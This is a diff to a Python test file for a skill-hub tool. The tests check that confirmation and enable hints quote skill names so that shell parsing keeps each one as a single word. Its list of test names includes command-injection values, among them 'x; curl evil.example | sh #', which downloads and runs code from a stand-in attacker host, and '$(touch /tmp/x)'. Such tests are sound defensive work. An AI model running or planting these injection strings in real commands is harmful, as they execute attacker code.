@@ -9,7 +9,6 @@ from pathlib import Path
 import pytest
 
 from skillhub_mcp import errors
-from skillhub_mcp.cli.picker_rows import PickerRow, warning_about
 from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled, SkillHubError
 
 NAMES = ["pdf", "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", "/a dir/skill", "> /etc/x"]
@@ -21,9 +20,6 @@ def test_a_command_in_a_hint_has_the_name_as_one_word(name: str) -> None:
     assert shlex.split(disabled.split("`skillhub ", 1)[1].rpartition("`")[0]) == ["enable", name]
     asked = ConfirmationRequired("run_skill_command", "x", description="", directory="/x", rule_name=name).hint or ""
     assert shlex.split(asked.partition(": skillhub ")[2]) == ["allow", name, "--run"]
-    for state, command in (("off", "enable"), ("denied", "why")):
-        row = PickerRow("x", name, "", "/x", "hub", "user", state, "")
-        assert shlex.split(warning_about(row).partition("; skillhub ")[2]) == [command, name]
 
 
 def test_every_error_has_a_code_of_its_own_in_the_reference() -> None:
